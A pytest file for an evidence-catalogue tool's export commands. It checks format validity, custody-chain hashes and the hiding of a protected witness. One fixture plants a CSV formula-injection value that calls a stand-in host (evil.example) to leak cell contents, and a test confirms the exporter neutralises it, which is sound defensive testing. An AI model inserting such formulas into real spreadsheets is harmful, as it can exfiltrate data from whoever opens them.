"""Exports read back by the parsers and validators of each format, through the real command line.

CSV by the standard library's reader, GeoJSON by ``geojson`` (with its validity check), KML by
``fastkml`` and the OGC KML 2.2 schema it ships, PROV-O by rdflib and the ``prov`` package,
CASE/UCO by rdflib and ``case_validate`` (SHACL against the CASE 1.x ontology).
"""

from __future__ import annotations

import csv
import hashlib
import io
import itertools
import json
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from sqlalchemy import select, update

from demo_helpers import HomeTemplates
from enquiry.cli import main
from enquiry.store import open_store
from enquiry.store.tables import CustodyEvent, Incident, Item, Rating

SLUG = "khan-shaykhun-2017-04-04"
CASE = "khan-shaykhun"


def _cli(home: Path, *args: str) -> Result:
    return CliRunner().invoke(main, ["--home", str(home), "--as", "tester", *args])


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory, home_templates: HomeTemplates) -> Iterator[Path]:
    """The built-in case loaded, one copy for the module (exports only add ledger events, so
    every count below is taken from the ledger as it stands after the export)."""
    with pytest.MonkeyPatch.context() as patch:
        patch.delenv("ENQUIRY_DB", raising=False)
        patch.delenv("ENQUIRY_HOME", raising=False)
        yield home_templates.demo_case(tmp_path_factory.mktemp("exports") / "home").home


def _export(home: Path, fmt: str, out: Path, *scope: str) -> bytes:
    result = _cli(home, "export", fmt, *(scope or ("--incident", SLUG)), "-o", str(out))
    assert result.exit_code == 0, result.output
    data = out.read_bytes()
    digest = hashlib.sha256(data).hexdigest()
    assert digest in result.output
    store = open_store(home, "tester", create=False)
    with store.session() as session:
        last = session.scalars(
            select(CustodyEvent)
            .where(CustodyEvent.action == "exported")
            .order_by(CustodyEvent.seq.desc())
        ).first()
    assert last is not None
    details = json.loads(last.details)
    assert details["sha256"] == digest and details["format"] == fmt
    return data


def _ledger(home: Path) -> tuple[dict[str, str], list[int], dict[str, float]]:
    store = open_store(home, "tester", create=False)
    with store.session() as session:
        items = {i.key: i.sha256 for i in session.scalars(select(Item))}
        incident = session.scalars(select(Incident).where(Incident.slug == SLUG)).one()
        seqs = list(
            session.scalars(
                select(CustodyEvent.seq)
                .where(
                    (CustodyEvent.case_id == incident.case_id) | CustodyEvent.item_id.isnot(None)
                )
                .order_by(CustodyEvent.seq)
            )
        )
        place = {"lat": incident.lat, "lon": incident.lon}
    return items, seqs, place  # type: ignore[return-value]


def test_csv_is_a_zip_of_four_tables_matching_the_catalogue(demo: Path, tmp_path: Path) -> None:
    data = _export(demo, "csv", tmp_path / "case.zip", "--case", CASE)
    items, seqs, _place = _ledger(demo)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        names = sorted(archive.namelist())
        assert names == [f"{CASE}/{n}.csv" for n in ("claims", "custody", "items", "ratings")]
        tables = {
            n.split("/")[1]: list(csv.DictReader(io.TextIOWrapper(archive.open(n), "utf-8")))
            for n in names
        }
    assert {r["key"]: r["sha256"] for r in tables["items.csv"]} == items
    assert len(tables["claims.csv"]) == 11
    # 22 rated items and claims, five hypotheses each
    assert len(tables["ratings.csv"]) == 110
    assert {r["rating"] for r in tables["ratings.csv"]} <= {"CC", "C", "N", "I", "II", "NA"}
    # custody: every event of the case up to the export itself, in ledger order, chained
    custody = tables["custody.csv"]
    assert [int(r["seq"]) for r in custody] == seqs[: len(custody)]
    assert all(b["prev_hash"] == a["hash"] for a, b in itertools.pairwise(custody))
    # the item's own date, not its load date
    jim = next(r for r in tables["items.csv"] if r["key"] == "doc-jim-report")
    assert (jim["dated"], jim["date"]) == ("published", "2017-10-26")
    # the same scope gives the same bytes (fixed member times, sorted rows)
    again = _export(demo, "csv", tmp_path / "again.zip", "--incident", SLUG)
    with zipfile.ZipFile(io.BytesIO(again)) as archive:
        assert archive.read(f"{SLUG}/items.csv") == zipfile.ZipFile(io.BytesIO(data)).read(
            f"{CASE}/items.csv"
        )


def test_geojson_is_valid_with_the_incident_items_and_claims_placed(
    demo: Path, tmp_path: Path
) -> None:
    import geojson

    data = _export(demo, "geojson", tmp_path / "places.geojson")
    collection = geojson.loads(data.decode("utf-8"))
    assert collection.is_valid, collection.errors()
    by_id = {f["id"]: f for f in collection["features"]}
    _items, _seqs, place = _ledger(demo)
    incident = by_id[f"incident/{SLUG}"]
    assert incident["geometry"]["type"] == "Point"
    assert incident["geometry"]["coordinates"] == [place["lon"], place["lat"]]  # lon first
    assert incident["properties"]["window_start"] == "2017-04-04T06:30:00+03:00"
    area = by_id["item/sat-crater/area"]
    assert area["geometry"]["type"] == "Polygon"
    assert geojson.Polygon(area["geometry"]["coordinates"]).is_valid
    samples = by_id["item/env-samples-ffm/location"]
    assert samples["properties"]["sha256"] and samples["geometry"]["type"] == "Point"
    depot = by_id["claim/ru-mod-2017-04-05"]
    assert depot["properties"]["party"] == "Igor Konashenkov"
    assert depot["geometry"]["coordinates"] == [36.6634, 35.4389]


def test_kml_passes_the_ogc_schema_and_reads_back_with_the_same_places(
    demo: Path, tmp_path: Path
) -> None:
    import geojson
    from fastkml import kml
    from fastkml.validator import validate
    from lxml import etree

    out = tmp_path / "places.kml"
    data = _export(demo, "kml", out)
    assert validate(element=etree.fromstring(data)) is True
    document: Any = kml.KML.parse(out)
    folders = {f.name: f for f in document.features[0].features}
    assert set(folders) == {"Incident", "Items", "Claims"}
    marks = [m for f in folders.values() for m in f.features]
    places = geojson.loads(_export(demo, "geojson", tmp_path / "p.geojson").decode())
    assert sorted(m.id for m in marks) == sorted(
        f["id"].replace("/", ".") for f in places["features"]
    )
    incident = folders["Incident"].features[0]
    _items, _seqs, place = _ledger(demo)
    assert (incident.geometry.x, incident.geometry.y) == (place["lon"], place["lat"])


def test_prov_is_custody_as_entities_activities_and_agents(demo: Path, tmp_path: Path) -> None:
    import rdflib
    from prov.model import ProvDocument

    out = tmp_path / "custody.jsonld"
    data = _export(demo, "prov", out, "--case", CASE)
    graph = rdflib.Graph().parse(data=data, format="json-ld")
    prov = rdflib.Namespace("http://www.w3.org/ns/prov#")
    entities = set(graph.subjects(rdflib.RDF.type, prov.Entity))
    activities = set(graph.subjects(rdflib.RDF.type, prov.Activity))
    agents = set(graph.subjects(rdflib.RDF.type, prov.Agent))
    items, seqs, _place = _ledger(demo)
    assert len(entities) == len(items)
    assert len(activities) == len(seqs) - 1  # every event before this export's own
    assert agents and all(graph.value(a, prov.wasAssociatedWith) in agents for a in activities)
    # the repost is derived from the original video
    derived = list(graph.subject_objects(prov.wasDerivedFrom))
    assert len(derived) == 1
    assert {graph.value(s, rdflib.DCTERMS.identifier) for s in derived[0]} == {
        rdflib.Literal("vid-victims-repost"),
        rdflib.Literal("vid-victims"),
    }
    used = {graph.value(e, rdflib.DCTERMS.identifier) for e in graph.objects(None, prov.used)}
    assert used == {rdflib.Literal(k) for k in items}
    # the W3C PROV model reads the same graph
    document = ProvDocument.deserialize(source=str(out), format="rdf", rdf_format="json-ld")
    assert len(document.get_records()) > len(entities) + len(activities)


def test_case_uco_uses_the_ontology_terms(demo: Path, tmp_path: Path) -> None:
    import rdflib

    data = _export(demo, "case-uco", tmp_path / "case.jsonld", "--case", CASE)
    graph = rdflib.Graph().parse(data=data, format="json-ld")
    inv = rdflib.Namespace("https://ontology.caseontology.org/case/investigation/")
    obs = rdflib.Namespace("https://ontology.unifiedcyberontology.org/uco/observable/")
    types = rdflib.Namespace("https://ontology.unifiedcyberontology.org/uco/types/")
    assert len(set(graph.subjects(rdflib.RDF.type, inv.Investigation))) == 1
    items, seqs, _place = _ledger(demo)
    files = set(graph.subjects(rdflib.RDF.type, obs.File))
    assert len(files) == len(items)
    hashes = {str(v).lower() for v in graph.objects(None, types.hashValue)}
    assert hashes == set(items.values())
    assert len(set(graph.subjects(rdflib.RDF.type, inv.ProvenanceRecord))) == len(items)
    actions = set(graph.subjects(rdflib.RDF.type, inv.InvestigativeAction))
    assert len(actions) == len(seqs) - 1


@pytest.mark.slow
def test_case_uco_conforms_to_the_case_ontology(demo: Path, tmp_path: Path) -> None:
    from case_utils.case_validate import validate

    out = tmp_path / "case.jsonld"
    _export(demo, "case-uco", out, "--case", CASE)
    result = validate(str(out))
    assert result.conforms, result.text
    assert not result.undefined_concepts


# ------------------------------------------------------------ protection, verification, input

WITNESS = "Jane Roe"
SMALL = f"""
format: enquiry-case/1
case: {{name: small, title: A small case}}
sources: [{{name: Field team, reliability: B}}]
incidents:
- slug: small-incident
  place: {{name: the square, lat: 10.5, lon: 20.25}}
  hypotheses:
  - {{id: H1, label: a shell hit the square}}
  - {{id: H0, label: something else, other: true}}
items:
- key: witness-1
  kind: testimony
  source: Field team
  credibility: 2
  protected: true
  fields:
    witness_pseudonym: W-1
    witness_name: {WITNESS}
    location: '10.51,20.26'
    interview_date: '2020-01-02'
  text: I saw the shell land from my window on Baker Street.
- key: note-1
  kind: document
  source: Field team
  credibility: 3
  fields: {{title: '=HYPERLINK("http://evil.example/?"&A1)', location: '10.5,20.25'}}
  text: A note.
ratings:
- {{incident: small-incident, item: witness-1, values: {{H1: C, H0: I}},
    rationale: {WITNESS} saw it}}
- {{incident: small-incident, item: note-1, values: {{H1: C, H0: N}}}}
"""


@pytest.fixture
def small(tmp_path: Path, home: Path) -> Path:
    case = tmp_path / "small.yaml"
    case.write_text(SMALL, encoding="utf-8")
    result = _cli(home, "load", str(case))
    assert result.exit_code == 0, result.output
    return home


def _text(fmt: str, data: bytes) -> str:
    if fmt != "csv":
        return data.decode("utf-8")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(n).decode("utf-8") for n in archive.namelist())


def _her_place(text: str) -> bool:
    """Whether the protected witness's latitude is in ``text`` as a number: not the seconds
    of a time (``12:04:10.511077Z``), which any ledger timestamp may happen to hold."""
    return re.search(r"(?<![\d:.])10\.51(?!\d)", text) is not None


@pytest.mark.parametrize("fmt", ["csv", "geojson", "kml", "prov", "case-uco"])
def test_protected_witness_stays_out_unless_revealed(small: Path, tmp_path: Path, fmt: str) -> None:
    text = _text(fmt, _export(small, fmt, tmp_path / "out", "--case", "small"))
    assert WITNESS not in text and "Baker Street" not in text and not _her_place(text)
    # tables and graphs keep the item (key, hash, ratings); maps have no place to show for it
    assert ("witness-1" in text) != (fmt in ("geojson", "kml"))
    revealed = _cli(small, "export", fmt, "--case", "small", "-o", str(tmp_path / "r"), "--reveal")
    assert revealed.exit_code == 0, revealed.output
    store = open_store(small, "tester", create=False)
    with store.session() as session:
        actions = list(session.scalars(select(CustodyEvent.action).order_by(CustodyEvent.seq)))
    assert actions[-2:] == ["revealed", "exported"]
    shown = _text(fmt, (tmp_path / "r").read_bytes())
    # revealed: the rationale that names her (CSV carries ratings) and the place she was
    assert (WITNESS in shown) == (fmt == "csv")
    assert _her_place(shown) == (fmt != "prov")


def test_csv_cells_cannot_run_as_formulas(small: Path, tmp_path: Path) -> None:
    data = _export(small, "csv", tmp_path / "small.zip", "--case", "small")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        rows = list(csv.DictReader(io.TextIOWrapper(archive.open("small/items.csv"), "utf-8")))
    note = next(r for r in rows if r["key"] == "note-1")
    assert note["title"] == "'" + '=HYPERLINK("http://evil.example/?"&A1)'
    assert note["lat"] == "10.5"


def test_an_unverified_catalogue_is_not_exported(small: Path, tmp_path: Path) -> None:
    store = open_store(small, "tester", create=False)
    with store.engine.begin() as connection:
        connection.execute(update(Rating).values(rating="CC"))
    out = tmp_path / "tampered.geojson"
    result = _cli(small, "export", "geojson", "--case", "small", "-o", str(out))
    assert result.exit_code != 0 and not out.exists()
    assert "failed verification" in result.output and "--allow-unverified" in result.output
    forced = _cli(
        small, "export", "geojson", "--case", "small", "-o", str(out), "--allow-unverified"
    )
    assert forced.exit_code == 0, forced.output and out.exists()


@pytest.mark.parametrize(
    "args, message",
    [
        (("kml", "-o", "x.kml"), "give either --case NAME or --incident ID"),
        (("kml", "--case", "small", "--incident", "small-incident", "-o", "x"), "either"),
        (("kml", "--case", "nope", "-o", "x.kml"), "case 'nope': no such case"),
        (("kml", "--incident", "nope", "-o", "x.kml"), "no incident 'nope'"),
        (("xlsx", "--case", "small", "-o", "x"), "'xlsx' is not one of"),
    ],
)
def test_wrong_arguments_are_one_clear_line(
    small: Path,
    tmp_path: Path,
    args: tuple[str, ...],
    message: str,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)
    result = _cli(small, "export", *args)
    assert result.exit_code != 0
    assert message in result.output
    assert not (tmp_path / "x.kml").exists() and not (tmp_path / "x").exists()
